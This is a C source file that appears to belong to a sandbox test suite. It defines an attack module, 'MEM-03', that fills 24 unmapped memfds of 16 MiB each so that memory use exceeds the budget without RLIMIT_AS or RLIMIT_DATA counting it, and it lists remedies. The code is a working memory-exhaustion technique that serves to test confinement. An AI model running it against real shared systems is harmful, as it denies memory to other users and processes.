// SPDX-License-Identifier: MIT
/*
 * memfd.c - a memory bomb that is never mapped.
 *
 * Goal: more memory than the budget.
 * Means: a memfd is a file without a disk. write(2) fills it, page by page, and the address space
 * stays as small as it was: RLIMIT_AS and RLIMIT_DATA have nothing to count. RLIMIT_FSIZE holds for
 * each file, so there are 24 of them, of 16 MiB each.
 */
#include "attacks/attack.h"

#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define FILES 24
#define MIB   (1L << 20)

static enum claim run(const struct brief *b)
{
	static char block[MIB];

	memset(block, 'x', sizeof(block));
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd = memfd_create("", 0);

		if (fd < 0)
			return denied("memfd_create");
		for (int n = 0; n < 16; n++)
			if (write(fd, block, sizeof(block)) != MIB)
				return denied("write");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget, none of it in the address space",
	.means = "24 memfds of 16 MiB, written and never mapped",
	.oracle = "usage:memory",
	.quick = true,
	.id = "MEM-03",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny memfd_create; a watch on Shmem; a memory cgroup",
	.run = run,
};
